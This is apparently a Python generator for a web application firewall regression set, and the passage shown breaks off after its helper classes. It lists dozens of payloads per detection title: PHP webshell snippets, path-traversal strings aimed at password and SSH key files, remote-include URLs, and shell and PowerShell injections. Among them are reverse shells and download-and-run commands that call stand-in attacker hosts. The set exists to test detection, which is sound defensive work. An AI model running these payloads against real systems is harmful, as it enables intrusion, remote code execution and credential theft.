"""Blind regression set "seventyfirst": PHP injection, local file inclusion / path traversal, remote file
inclusion and remote command execution, written title by title the way a careful regression-suite author writes
them, with a benign half that carries the same words innocently.

The angle: for each detection title of the CRS 3.3.4 request rules at paranoia levels 1-2 in these families (and
the RCE titles later CRS releases added at PL1-2), the attack the title names, one payload per alternative in its
family (every keyword, function, tag, command, file or dialect the author knows), then the variants a good rule
must still catch (quoting, casing, whitespace and comment substitutes, concatenation, encodings a server decodes).
8 to 12 payloads per title, one kebab-case sub-family per title:

- php: php-open-tag (933100), php-script-upload (933110), php-config-directive (933120), php-variables (933130),
  php-io-stream (933140), php-wrapper-scheme (933200), php-function-name-high (933150), php-function-call-high
  (933160), php-serialized-object (933170), php-variable-function-call (933180),
  php-variable-function-call-expr (933210), php-function-name-medium (933151).
- lfi: lfi-traversal-encoded (930100), lfi-traversal (930110), lfi-os-file (930120), lfi-restricted-file (930130).
- rfi: rfi-ip-url (931100), rfi-param-name (931110), rfi-trailing-question (931120), rfi-off-domain (931130).
- rce: rce-unix-injection (932100), rce-unix-injection-alt (932105), rce-windows-injection (932110),
  rce-windows-injection-alt (932115), rce-powershell (932120), rce-shell-expression (932130), rce-windows-for-if
  (932140), rce-direct-unix (932150), rce-unix-shell-code (932160), rce-shellshock-header (932170),
  rce-shellshock-args (932171), rce-restricted-upload (932180), rce-bypass-technique (932200); later titles:
  rce-unix-plain-command, rce-unix-evasion, rce-unix-alias, rce-unix-history, rce-unix-pipe-short,
  rce-sqlite-command, rce-mail-command (SMTP / IMAP / POP3), rce-windows-evasion, rce-header-shell-code,
  rce-direct-unix-paths.

Placements, as the traffic reaches the product (each payload in three of them or two, alternately, rotating
so that every title covers all six): a browser's search query (GET /api/users?q=..&page=..&per_page=..,
parameter order varied), the admin panel's search form (POST /admin/users/search), JSON (a field of
POST /api/users, or the text of a Slack event_callback after a short lead-in, with a made-up signature), a path
segment (GET /api/users/<x> or GET /api/<x>), a header (the whole User-Agent mostly, else the Referer or a cookie
value, percent-encoded when it holds characters a header cannot), and about one in ten as PATCH /api/users/42
(JSON) or POST /me/settings (form). Every request carries the headers a current browser sends (Sec-Fetch-*, a
Referer on https://app.example.com, a session cookie and a consent cookie). Two titles are about the names of
uploaded files (933110, 932180): their header placement is the X-Filename header an upload client sends. Title
931110 is about the parameter's name: its payloads are `name=URL` and go in as that parameter (query, form, JSON
key, cookie). The two titles about request headers (932170, the later "shell code in request headers") put each
payload in the User-Agent and in the Referer or a cookie, and now and then in one more place.

The benign half (about as many requests) uses the same places with innocent values: Slack messages and bios,
bot mentions, searches, profiles, links, external referrers, path segments, client User-Agents, cookies and
settings, carrying the same words (php, shell, cat, history, alias, .htaccess, URLs, `$`, `;`, `|`, `!!`).

Authorship and independence: written from general knowledge and the titles alone (no rule, ruleset regression
test or public payload list was read), measured once on unchanged code, and deterministic (seeded random only).
"""

from __future__ import annotations

import json
import random
import urllib.parse
from collections.abc import Iterator
from typing import Any

from .family_gen_blind_php import chat_and_bio
from .records import print_records

NAME = "seventyfirst"

# --------------------------------------------------------------------------------------------------------------
# Attacks, title by title: (category, sub, payloads)
# --------------------------------------------------------------------------------------------------------------

PHP_OPEN_TAG = [  # 933100
    "<?php system($_GET['cmd']); ?>",
    "<?PHP echo shell_exec('id'); ?>",
    "<? passthru('uname -a'); ?>",
    "<?=`id`?>",
    "<?php\neval($_POST['x']);",
    "<?php/**/phpinfo();",
    "<?pHp\tsystem('ls -la');",
    "<script language=\"php\">system('id');</script>",
    "<script language=php>echo file_get_contents('/etc/passwd');</script>",
    "<% system('id'); %>",
    "x?><?php readfile('/etc/hostname'); ?>",
    "%3C%3Fphp%20phpinfo()%3B%20%3F%3E",
]
PHP_SCRIPT_UPLOAD = [  # 933110
    "shell.php",
    "avatar.php5",
    "upload.phtml",
    "invoice.pdf.php",
    "CMD.PHP",
    "x.php.",
    "backdoor.phar",
    "image.pht",
    "a.php7",
    "source.phps",
    "photo.php%00.jpg",
    "p.php;.jpg",
]
PHP_CONFIG_DIRECTIVE = [  # 933120
    "allow_url_include=On",
    "allow_url_fopen = 1",
    "auto_prepend_file=php://input",
    "auto_append_file=/etc/passwd",
    "disable_functions=",
    "open_basedir=/",
    "safe_mode=Off",
    "-d allow_url_include=1 -d auto_prepend_file=php://input",
    "display_errors=stderr",
    "register_globals=on",
    "enable_dl=On",
    "AUTO_PREPEND_FILE=data://text/plain;base64,PD9waHAgcGhwaW5mbygpOz8+",
]
PHP_VARIABLES = [  # 933130
    "$_GET['cmd']",
    "$_POST[x]",
    "$_COOKIE['sid']",
    "$_REQUEST['a']",
    "$_SERVER['HTTP_USER_AGENT']",
    "$_ENV['PATH']",
    "$_FILES['f']['tmp_name']",
    "$_SESSION['is_admin']=1",
    "$GLOBALS['config']",
    "$HTTP_RAW_POST_DATA",
    "$HTTP_GET_VARS['id']",
    "echo $_SERVER [ 'DOCUMENT_ROOT' ];",
]
PHP_IO_STREAM = [  # 933140
    "php://input",
    "php://stdin",
    "php://stdout",
    "php://stderr",
    "php://output",
    "php://fd/3",
    "php://memory",
    "php://temp/maxmemory:1048576",
    "php://filter/convert.base64-encode/resource=config.php",
    "PHP://Input",
    "php:%2F%2Finput",
    "php://filter/read=string.toupper|string.rot13/resource=/etc/passwd",
]
PHP_WRAPPER_SCHEME = [  # 933200
    "zlib://archive.gz",
    "compress.zlib:///etc/passwd",
    "compress.bzip2://uploads/x.bz2",
    "glob:///var/www/html/*.php",
    "phar://uploads/avatar.jpg/shell.php",
    "zip://uploads/docs.zip#shell.php",
    "data://text/plain;base64,PD9waHAgc3lzdGVtKCdpZCcpOyA/Pg==",
    "expect://id",
    "ogg://attacker.example/a.ogg",
    "ssh2.shell://user:x@203.0.113.5:22/xterm",
    "ZIP://uploads/a.zip%23cmd.php",
    "Phar://./uploads/x.gif",
]
PHP_FUNCTION_NAME_HIGH = [  # 933150
    "shell_exec",
    "x=base64_decode",
    "gzinflate",
    "str_rot13 payload",
    "call_user_func_array",
    "file_put_contents",
    "fsockopen",
    "pcntl_exec",
    "get_defined_vars",
    "ReflectionFunction",
    "convert_uudecode",
    "SHELL_EXEC",
]
PHP_FUNCTION_CALL_HIGH = [  # 933160
    "system('id')",
    "exec(\"whoami\")",
    "passthru ('cat /etc/passwd')",
    "shell_exec/**/('id')",
    "popen('id', 'r')",
    "proc_open('sh', [], $p)",
    "eval($_POST['x'])",
    "assert(\"phpinfo()\")",
    "phpinfo()",
    "readfile('/etc/passwd')",
    "SyStEm(\"uname -a\")",
    "system\t(\"id\")",
]
PHP_SERIALIZED_OBJECT = [  # 933170
    "O:8:\"stdClass\":0:{}",
    "O:4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:7:\"isAdmin\";b:1;}",
    "a:1:{i:0;O:6:\"Logger\":1:{s:4:\"file\";s:11:\"/tmp/sh.php\";}}",
    "O:+4:\"User\":0:{}",
    "C:11:\"ArrayObject\":21:{x:i:0;a:0:{};m:a:0:{}}",
    "o:4:\"Test\":0:{}",
    "O:24:\"GuzzleHttp\\Psr7\\FnStream\":1:{s:9:\"_fn_close\";s:7:\"phpinfo\";}",
    "O:40:\"Illuminate\\Broadcasting\\PendingBroadcast\":1:{s:9:\"\\0*\\0events\";O:15:\"Faker\\Generator\":0:{}}",
    "O : 4 : \"User\" : 0 : {}",
    "a:2:{s:4:\"user\";s:5:\"admin\";s:3:\"obj\";O:3:\"Foo\":0:{}}",
    "O%3A8%3A%22stdClass%22%3A0%3A%7B%7D",
    "x|O:11:\"SessionUser\":1:{s:4:\"role\";s:5:\"admin\";}",
]
PHP_VARIABLE_FUNCTION_CALL = [  # 933180
    "$a($b)",
    "$f('id')",
    "$_GET['f']($_GET['c'])",
    "$func = 'system'; $func('id');",
    "${'a'}('id')",
    "$a[0]('whoami')",
    "$$fn('id')",
    "$cb ( 'ls -la' )",
    "$x/**/('id')",
    "$_POST[0]($_POST[1])",
    "@$_REQUEST['a']($_REQUEST['b']);",
    "$obj->$method('id')",
]
PHP_VARIABLE_FUNCTION_CALL_EXPR = [  # 933210
    "(system)('id');",
    "('sy'.'stem')('ls');",
    "\"system\"(\"id\");",
    "'passthru'('whoami');",
    "(\"\\x73\\x79\\x73\\x74\\x65\\x6d\")(\"id\");",
    "(str_rot13('flfgrz'))('id');",
    "(base64_decode('c3lzdGVt'))('whoami');",
    "[$a='system'][0]('id');",
    "(chr(115).chr(121).chr(115).chr(116).chr(101).chr(109))('id');",
    "(\"exec\")/**/(\"id\");",
    "(implode('', ['sys', 'tem']))('id');",
    "\"\\163\\171\\163\\164\\145\\155\"(\"id\");",
]
PHP_FUNCTION_NAME_MEDIUM = [  # 933151
    "move_uploaded_file",
    "ini_get_all",
    "parse_ini_file",
    "posix_setuid",
    "proc_terminate",
    "stream_socket_client",
    "curl_multi_exec",
    "x=php_uname",
    "apache_setenv",
    "get_cfg_var",
    "symlink",
    "MB_SEND_MAIL",
]

LFI_TRAVERSAL_ENCODED = [  # 930100
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%2e%2e/%2e%2e/etc/passwd",
    "..%2f..%2f..%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "..%c0%af..%c0%afetc%c0%afpasswd",
    "%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd",
    "..%5c..%5cwindows%5cwin.ini",
    "%u002e%u002e%u2215etc%u2215passwd",
    "..%255c..%255cboot.ini",
    ".%2e/.%2e/.%2e/etc/hosts",
    "%2E%2E%5C%2E%2E%5Cweb.config",
    "\uff0e\uff0e\uff0f\uff0e\uff0e\uff0fetc\uff0fpasswd",
]
LFI_TRAVERSAL = [  # 930110
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "..././..././etc/shadow",
    "/var/www/html/../../../etc/passwd",
    "..//..//..//etc//hosts",
    "../../../../../../proc/self/environ",
    "..\\/..\\/etc/passwd",
    "../../config/database.yml",
    "../../../../../../../../../../etc/passwd%00.png",
    "/../../../../boot.ini",
    "..;/..;/WEB-INF/web.xml",
]
LFI_OS_FILE = [  # 930120
    "/etc/passwd",
    "/etc/shadow",
    "/proc/self/environ",
    "/proc/self/cmdline",
    "/root/.bash_history",
    "/home/deploy/.ssh/id_rsa",
    "/root/.ssh/authorized_keys",
    "C:\\Windows\\win.ini",
    "c:/boot.ini",
    "/etc/ssh/sshd_config",
    "/etc/./passwd",
    "C:\\WINDOWS\\system32\\drivers\\etc\\hosts",
]
LFI_RESTRICTED_FILE = [  # 930130
    ".htaccess",
    ".htpasswd",
    ".git/config",
    ".git/HEAD",
    ".env",
    "web.config",
    ".svn/entries",
    "WEB-INF/web.xml",
    ".DS_Store",
    ".hg/hgrc",
    ".aws/credentials",
    ".HTACCESS",
]

RFI_IP_URL = [  # 931100
    "http://203.0.113.5/shell.txt",
    "https://198.51.100.7/x.php",
    "ftp://192.0.2.10/pub/cmd.txt",
    "http://203.0.113.5:8080/inc.txt",
    "HTTP://198.51.100.23/r57.txt",
    "ftps://192.0.2.44/payload.txt",
    "file://203.0.113.9/share/x.php",
    "http://[2001:db8::1]/s.txt",
    "http://3405803781/x.txt",
    "http://user@203.0.113.5/a.txt",
    "https://0xcb.0x0.0x71.0x05/b.txt",
]
RFI_PARAM_NAME = [  # 931110 (name=URL: the name is the parameter's)
    "include=http://attacker.example/shell.txt",
    "page=https://attacker.example/inc.php",
    "file=ftp://attacker.example/x.txt",
    "mosConfig_absolute_path=http://attacker.example/x.txt?",
    "_CONF[path]=http://attacker.example/c.txt",
    "GALLERY_BASEDIR=http://attacker.example/",
    "path[docroot]=http://attacker.example/x.txt",
    "appserv_root=https://attacker.example/r.txt",
    "config[root_dir]=ftp://attacker.example/x.txt",
    "_SERVER[DOCUMENT_ROOT]=http://attacker.example/x.txt",
    "phpbb_root_path=https://attacker.example/",
    "_PHPLIB[libdir]=HTTP://attacker.example/lib/",
]
RFI_TRAILING_QUESTION = [  # 931120
    "http://attacker.example/shell.txt?",
    "https://evil.example/c99.txt?",
    "ftp://attacker.example/x.txt?",
    "http://attacker.example/inc.php??",
    "HTTPS://Attacker.Example/r.txt?",
    "file://attacker.example/share/x.txt?",
    "http://attacker.example:8080/x?",
    "http://attacker.example/x.txt???",
    "ftps://attacker.example/y.txt?",
    "https://attacker.example/index.php?page=x?",
]
RFI_OFF_DOMAIN = [  # 931130
    "http://attacker.example/shell.txt",
    "https://evil.example/payload.php",
    "ftp://attacker.example/pub/x",
    "ftps://attacker.example/y.txt",
    "file://attacker.example/x",
    "HTTP://EVIL.EXAMPLE/a.txt",
    "https://attacker.example:8443/a.php",
    "http://attacker.example/x.txt#",
    "https://cdn.attacker.example/s.js",
    "http://user:pw@attacker.example/",
]

RCE_UNIX_INJECTION = [  # 932100
    ";id",
    "; cat /etc/passwd",
    "| uname -a",
    "|| whoami",
    "&& ls -la /",
    "& ping -c 4 203.0.113.5",
    "1;wget http://attacker.example/x -O /tmp/x",
    "|nc 203.0.113.5 4444 -e /bin/sh",
    ";curl http://attacker.example/s.sh|sh",
    "x\nid\n",
    "a;rm -rf /tmp/*",
    "test && echo pwned > /tmp/x",
]
RCE_UNIX_INJECTION_ALT = [  # 932105
    ";c\\at /etc/passwd",
    ";/bin/c?t /etc/passwd",
    "; ca''t /etc/passwd",
    ";ca\"\"t /etc/shadow",
    "| busybox nc 203.0.113.5 4444",
    ";python -c 'import pty;pty.spawn(\"/bin/sh\")'",
    ";perl -e 'exec \"/bin/sh\"'",
    "; chmod 777 /tmp/x",
    ";echo${IFS}x>/tmp/y",
    ";uname${IFS}-a",
    ";{ls,-la,/}",
    "&& nohup socat tcp:203.0.113.5:4444 exec:sh &",
]
RCE_WINDOWS_INJECTION = [  # 932110
    "& dir c:\\",
    "| type C:\\Windows\\win.ini",
    "&& net user",
    "; ipconfig /all",
    "| whoami /priv",
    "& cmd /c ver",
    "|| systeminfo",
    "& certutil -urlcache -split -f http://attacker.example/x.exe x.exe",
    "& tasklist",
    "| netstat -an",
    "& reg query HKLM\\SOFTWARE",
    "&& copy con x.bat",
]
RCE_WINDOWS_INJECTION_ALT = [  # 932115
    "& bitsadmin /transfer j http://attacker.example/x.exe c:\\x.exe",
    "| wmic process call create calc.exe",
    "& rundll32 shell32.dll,Control_RunDLL",
    "& mshta http://attacker.example/a.hta",
    "| regsvr32 /s /n /u /i:http://attacker.example/f.sct scrobj.dll",
    "& schtasks /create /tn x /tr calc /sc once /st 00:00",
    "& net localgroup administrators x /add",
    "& nslookup attacker.example",
    "&c^m^d /c whoami",
    "& \"cmd\" /c dir",
    "& CMD.EXE /C DIR",
    "| sc query",
]
RCE_POWERSHELL = [  # 932120
    "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://attacker.example/a.ps1')\"",
    "powershell.exe -enc SQBFAFgA",
    "pwsh -c Get-Process",
    "Invoke-Expression (iwr http://attacker.example/x)",
    "Invoke-WebRequest -Uri http://attacker.example/x -OutFile x.exe",
    "Start-Process calc.exe",
    "Get-ChildItem C:\\ -Recurse",
    "Set-MpPreference -DisableRealtimeMonitoring $true",
    "IEX(New-Object System.Net.WebClient).DownloadString('http://198.51.100.7/p')",
    "Get-Content C:\\Windows\\win.ini",
    "& powershell -ExecutionPolicy Bypass -File x.ps1",
    "PoWeRsHeLl -NoP -C whoami",
]
RCE_SHELL_EXPRESSION = [  # 932130
    "$(id)",
    "`whoami`",
    "${IFS}",
    "$(cat /etc/passwd)",
    "$((7*7))",
    "<(uname -a)",
    ">(curl attacker.example)",
    "$(curl -s http://attacker.example/x|sh)",
    "${PATH%%u*}",
    "$(echo$IFS'aWQ='|base64$IFS-d)",
    "$( id )",
    "a${@}b",
]
RCE_WINDOWS_FOR_IF = [  # 932140
    "for /f %i in ('whoami') do echo %i",
    "FOR /L %i IN (1,1,10) DO ping 203.0.113.5",
    "if exist C:\\Windows\\win.ini type C:\\Windows\\win.ini",
    "if not exist x.txt echo x",
    "for /r c:\\ %f in (*.config) do type %f",
    "& for /F \"tokens=*\" %a in ('dir /b') do @echo %a",
    "if defined PATH echo %PATH%",
    "For /d %d in (C:\\*) do dir %d",
    "if 1==1 cmd /c calc",
    "for %x in (a b) do net user",
    "IF /I \"%USERNAME%\"==\"admin\" whoami",
]
RCE_DIRECT_UNIX = [  # 932150
    "cat /etc/passwd",
    "id",
    "uname -a",
    "ls -la /var/www",
    "wget http://attacker.example/x.sh",
    "curl -o /tmp/x http://attacker.example/x",
    "nc -e /bin/sh 203.0.113.5 4444",
    "bash -i",
    "python3 -c 'import os;os.system(\"id\")'",
    "whoami",
    "sh -c \"id\"",
    "chmod +x /tmp/x",
]
RCE_UNIX_SHELL_CODE = [  # 932160
    "/bin/bash -c 'id'",
    "/bin/sh",
    "/usr/bin/id",
    "/bin/cat /etc/shadow",
    "/usr/bin/python -c 'print(1)'",
    "/bin/nc -lvp 4444",
    "/usr/bin/wget",
    "/bin/zsh",
    "/usr/local/bin/php -r 'system(\"id\");'",
    "/sbin/ifconfig",
    "/bin//bash",
    "/bin/ba''sh",
]
RCE_SHELLSHOCK_HEADER = [  # 932170
    "() { :; }; /bin/bash -c 'id'",
    "() { :;}; echo vulnerable",
    "() { _; } >_[$($())] { echo hi; }",
    "() { :; }; /usr/bin/wget http://attacker.example/x",
    "() {:;}; /bin/cat /etc/passwd",
    "() { ignored; }; /bin/id",
    "() { :; };  ping -c 1 203.0.113.5",
    "(){ :; }; id",
    "() { x() { _; }; x() { _; } <<a; }",
    "() { :; }; curl http://attacker.example/$(whoami)",
]
RCE_SHELLSHOCK_ARGS = [  # 932171
    "() { :; }; echo; /usr/bin/id",
    "() { :;}; /bin/sh -c \"id\"",
    "() {  :  ;  } ; id",
    "() { a; }; a() { b; }; id",
    "()\t{\t:;\t};\tid",
    "%28%29%20%7B%20%3A%3B%20%7D%3B%20id",
    "() { :; }; /bin/bash -i >& /dev/tcp/203.0.113.5/4444 0>&1",
    "(){:;};whoami",
    "() { :; }; exec 3<>/dev/tcp/203.0.113.5/80",
    "() { 0; }; /usr/bin/env",
]
RCE_RESTRICTED_UPLOAD = [  # 932180
    ".htaccess",
    ".htpasswd",
    ".htdigest",
    "web.config",
    ".user.ini",
    "wp-config.php",
    "settings.php",
    ".env",
    "parameters.yml",
    "local.xml",
    "..%2f.htaccess",
    ".HTACCESS",
]
RCE_BYPASS_TECHNIQUE = [  # 932200
    "c''at /etc/passwd",
    "c\"\"at /etc/passwd",
    "c\\at /etc/passwd",
    "cat$u /etc/passwd",
    "ca$@t /etc/passwd",
    "/???/?at /???/p?ss??",
    "cat /e*c/pa*d",
    "w'h'o'a'm'i",
    "who$()ami",
    "c${u}at /etc/passwd",
    "{cat,/etc/passwd}",
    "cat</etc/passwd",
]
# later CRS releases
RCE_UNIX_PLAIN_COMMAND = [
    ";ls",
    "| id",
    "&& whoami",
    "; sleep 10",
    "| head /etc/passwd",
    "; ps aux",
    ";env",
    "; df -h",
    "| tail -n 5 /var/log/syslog",
    ";crontab -l",
    "; netstat -tulpn",
    "| getent passwd",
]
RCE_UNIX_EVASION = [
    ";c\\a\\t /etc/passwd",
    ";\"c\"a't' /etc/passwd",
    ";$u'i'd",
    ";i$@d",
    ";/bin/c[a]t /etc/passwd",
    ";\\i\\d",
    ";w$()hoami",
    ";ca$(echo)t /etc/hosts",
    ";x=i;y=d;$x$y",
    ";$(printf '\\151\\144')",
    ";tac${IFS}/etc/passwd",
    ";{who''ami,}",
]
RCE_UNIX_ALIAS = [
    "alias ls='curl attacker.example|sh'",
    ";alias cd=\"rm -rf ~\"",
    "| alias x='id'; x",
    "&& alias sudo='sudo -S'",
    "; alias -p",
    ";alias  l=ls",
    "unalias -a; id",
    "$(alias x=id)",
]
RCE_UNIX_HISTORY = [
    ";!-1",
    "|!!",
    "!-2",
    ";!$",
    "; !ca",
    ";!?passwd?",
    "&& !#",
    ";!-1:0",
    "$(!!)",
    ";!*",
]
RCE_UNIX_PIPE_SHORT = [
    "|id",
    "| ls",
    "|ps",
    "| w",
    "|nc 203.0.113.5 80",
    "|sh",
    "| df",
    "|su",
    "| dd if=/dev/zero of=/tmp/x",
    "||sh",
    "| awk '{print $1}' /etc/passwd",
    "|vi /etc/hosts",
]
RCE_SQLITE_COMMAND = [
    ".shell id",
    ".system cat /etc/passwd",
    ";.shell whoami",
    "\n.system ls",
    ".SHELL id",
    ".shell  curl attacker.example",
    "'); .system id; --",
    ".shell /bin/sh -c id",
    ".system echo pwned > /tmp/x",
]
RCE_MAIL_COMMAND = [  # SMTP / IMAP / POP3
    "x\r\nRCPT TO:<victim@example.net>",
    "a@example.org\r\nMAIL FROM:<a@attacker.example>\r\nRCPT TO:<b@example.org>\r\nDATA",
    "\r\nVRFY root",
    "\r\nEXPN admins",
    "INBOX\r\nA01 SELECT INBOX",
    "x\r\nA02 FETCH 1:* (BODY[])",
    "\r\nA03 LOGIN admin hunter2",
    "x\r\nA04 CAPABILITY",
    "\r\nUSER admin",
    "\r\nRETR 1",
    "\r\nDELE 1",
    "\r\nLIST",
]
RCE_WINDOWS_EVASION = [
    "& c^m^d /c w^h^o^a^m^i",
    "| \"c\"m\"d\" /c dir",
    "&cmd.exe /v /c \"set x=who&&set y=ami&&call %x%%y%\"",
    "& %COMSPEC% /c ver",
    "& c:\\windows\\system32\\cmd.exe /c dir",
    "& p^o^w^e^r^s^h^e^l^l -c whoami",
    "& %ProgramData:~0,1%%ProgramData:~9,2% /c dir",
    "| powershell -e JABhAD0AJwBpAGQAJwA=",
    "& powershell \"&('ie'+'x') 'whoami'\"",
    "& cmd/c whoami",
    ",;cmd /c dir",
]
RCE_HEADER_SHELL_CODE = [
    "/bin/sh",
    "Mozilla/5.0 (X11; Linux x86_64) /bin/bash -i",
    "curl/8.4.0 /usr/bin/id",
    "$(wget http://attacker.example/x -O-|sh)",
    "`curl attacker.example`",
    "python-requests/2.31 ;/bin/nc 203.0.113.5 4444",
    "/usr/bin/perl -e 'print 1'",
    "/bin/busybox telnetd",
    "/usr/bin/python3",
    "Mozilla/5.0 $(id)",
]
RCE_DIRECT_UNIX_PATHS = [
    "/bin/cat /etc/passwd",
    "/usr/bin/who?mi",
    "/???/??t /???/p??s??",
    "/b*/c*t /e*/passwd",
    "/usr/bin/[w]hoami",
    "/bin/l[s] -la",
    "/usr/b?n/id",
    "/bi[n]/s[h] -c id",
    "/u*/b*/wget http://attacker.example",
    "/bin/uname -a",
    "/sbin/reboot",
]

TITLES: list[tuple[str, str, list[str]]] = [
    ("php", "php-open-tag", PHP_OPEN_TAG),
    ("php", "php-script-upload", PHP_SCRIPT_UPLOAD),
    ("php", "php-config-directive", PHP_CONFIG_DIRECTIVE),
    ("php", "php-variables", PHP_VARIABLES),
    ("php", "php-io-stream", PHP_IO_STREAM),
    ("php", "php-wrapper-scheme", PHP_WRAPPER_SCHEME),
    ("php", "php-function-name-high", PHP_FUNCTION_NAME_HIGH),
    ("php", "php-function-call-high", PHP_FUNCTION_CALL_HIGH),
    ("php", "php-serialized-object", PHP_SERIALIZED_OBJECT),
    ("php", "php-variable-function-call", PHP_VARIABLE_FUNCTION_CALL),
    ("php", "php-variable-function-call-expr", PHP_VARIABLE_FUNCTION_CALL_EXPR),
    ("php", "php-function-name-medium", PHP_FUNCTION_NAME_MEDIUM),
    ("lfi", "lfi-traversal-encoded", LFI_TRAVERSAL_ENCODED),
    ("lfi", "lfi-traversal", LFI_TRAVERSAL),
    ("lfi", "lfi-os-file", LFI_OS_FILE),
    ("lfi", "lfi-restricted-file", LFI_RESTRICTED_FILE),
    ("rfi", "rfi-ip-url", RFI_IP_URL),
    ("rfi", "rfi-param-name", RFI_PARAM_NAME),
    ("rfi", "rfi-trailing-question", RFI_TRAILING_QUESTION),
    ("rfi", "rfi-off-domain", RFI_OFF_DOMAIN),
    ("rce", "rce-unix-injection", RCE_UNIX_INJECTION),
    ("rce", "rce-unix-injection-alt", RCE_UNIX_INJECTION_ALT),
    ("rce", "rce-windows-injection", RCE_WINDOWS_INJECTION),
    ("rce", "rce-windows-injection-alt", RCE_WINDOWS_INJECTION_ALT),
    ("rce", "rce-powershell", RCE_POWERSHELL),
    ("rce", "rce-shell-expression", RCE_SHELL_EXPRESSION),
    ("rce", "rce-windows-for-if", RCE_WINDOWS_FOR_IF),
    ("rce", "rce-direct-unix", RCE_DIRECT_UNIX),
    ("rce", "rce-unix-shell-code", RCE_UNIX_SHELL_CODE),
    ("rce", "rce-shellshock-header", RCE_SHELLSHOCK_HEADER),
    ("rce", "rce-shellshock-args", RCE_SHELLSHOCK_ARGS),
    ("rce", "rce-restricted-upload", RCE_RESTRICTED_UPLOAD),
    ("rce", "rce-bypass-technique", RCE_BYPASS_TECHNIQUE),
    ("rce", "rce-unix-plain-command", RCE_UNIX_PLAIN_COMMAND),
    ("rce", "rce-unix-evasion", RCE_UNIX_EVASION),
    ("rce", "rce-unix-alias", RCE_UNIX_ALIAS),
    ("rce", "rce-unix-history", RCE_UNIX_HISTORY),
    ("rce", "rce-unix-pipe-short", RCE_UNIX_PIPE_SHORT),
    ("rce", "rce-sqlite-command", RCE_SQLITE_COMMAND),
    ("rce", "rce-mail-command", RCE_MAIL_COMMAND),
    ("rce", "rce-windows-evasion", RCE_WINDOWS_EVASION),
    ("rce", "rce-header-shell-code", RCE_HEADER_SHELL_CODE),
    ("rce", "rce-direct-unix-paths", RCE_DIRECT_UNIX_PATHS),
]
UPLOAD_SUBS = {"php-script-upload", "rce-restricted-upload"}   # header placement: X-Filename
HEADER_SUBS = {"rce-shellshock-header", "rce-header-shell-code"}   # titles about request headers
PARAM_SUBS = {"rfi-param-name"}   # the payload is name=value

# the six places, in a 20-step cycle: query, form and JSON most, path and header often, the alternate
# endpoints (PATCH /api/users/42, POST /me/settings) one in ten
CYCLE = ["query", "form", "json", "path", "header", "query", "form", "json", "path", "header",
         "query", "form", "json", "header", "alt", "query", "form", "json", "path", "alt"]

# --------------------------------------------------------------------------------------------------------------
# Browser-like requests
# --------------------------------------------------------------------------------------------------------------

APP = "https://app.example.com"
CHROME_UA = ("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
             "Chrome/126.0.0.0 Safari/537.36")
BROWSERS: list[dict[str, str]] = [
    {"ua": CHROME_UA, "ch": "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
     "platform": "\"Windows\"", "enc": "gzip, deflate, br, zstd"},
    {"ua": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/126.0.0.0 Safari/537.36",
     "ch": "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Google Chrome\";v=\"126\"",
     "platform": "\"macOS\"", "enc": "gzip, deflate, br, zstd"},
    {"ua": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
           "Chrome/126.0.0.0 Safari/537.36 Edg/126.0.0.0",
     "ch": "\"Not/A)Brand\";v=\"8\", \"Chromium\";v=\"126\", \"Microsoft Edge\";v=\"126\"",
     "platform": "\"Windows\"", "enc": "gzip, deflate, br, zstd"},
    {"ua": "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0", "enc": "gzip, deflate, br, zstd"},
    {"ua": "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:127.0) Gecko/20100101 Firefox/127.0",
     "enc": "gzip, deflate, br, zstd"},
    {"ua": "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
           "Version/17.5 Safari/605.1.15", "enc": "gzip, deflate, br"},
]
LANGS = ["en-US,en;q=0.9", "en-GB,en;q=0.9,en-US;q=0.8", "de-DE,de;q=0.9,en;q=0.8",
         "fr-FR,fr;q=0.9,en-US;q=0.8,en;q=0.7", "es-ES,es;q=0.9", "en-US,en;q=0.5"]
REFERER_PAGES = ["/admin/users", "/admin/users?page=2", "/users", "/dashboard", "/settings/profile",
                 "/admin/users/search", "/people?team=platform", "/me/settings"]
CONSENTS = ["cookie_consent=accepted", "consent=necessary%2Canalytics", "cookie_consent=necessary",
            "consent=%7B%22necessary%22%3Atrue%2C%22analytics%22%3Afalse%7D", "CookieConsent=true"]
COOKIE_NAMES = ["last_search", "recent_query", "prefs", "filter", "display_name"]
JSON_FIELDS = ["name", "bio", "title", "department", "location", "email"]
URL_FIELDS = ["website", "avatar_url", "bio"]
FILE_FIELDS = ["filename", "attachment_name"]
SETTINGS_FIELDS = ["display_name", "status_text", "signature"]
SLACK_LEADS = ["lookup user ", "ticket title: ", "hey bot, ", "search ", "create ticket: ", "find "]
PEOPLE = [("Dana Whitfield", "dana.whitfield@example.com", "Support Engineer", "Customer Success"),
          ("Rahul Mehta", "rahul.mehta@example.com", "Account Executive", "Sales"),
          ("Ines Duarte", "ines.duarte@example.com", "Data Analyst", "Finance"),
          ("Tom Becker", "tom.becker@example.com", "Site Reliability Engineer", "Platform"),
          ("Aiko Tanaka", "aiko.tanaka@example.com", "Product Designer", "Design")]
ID_CHARS = "ABCDEFGHJKLMNPQRSTUVWXYZ0123456789"


class Client:
    """A seeded source of browser headers, tokens and Slack ids."""

    def __init__(self, seed: int) -> None:
        self.rng = random.Random(seed)

    def token(self) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(32))

    def sid(self, prefix: str, n: int = 10) -> str:
        return prefix + "".join(self.rng.choice(ID_CHARS) for _ in range(n))

    def hexs(self, n: int) -> str:
        return "".join(self.rng.choice("0123456789abcdef") for _ in range(n))

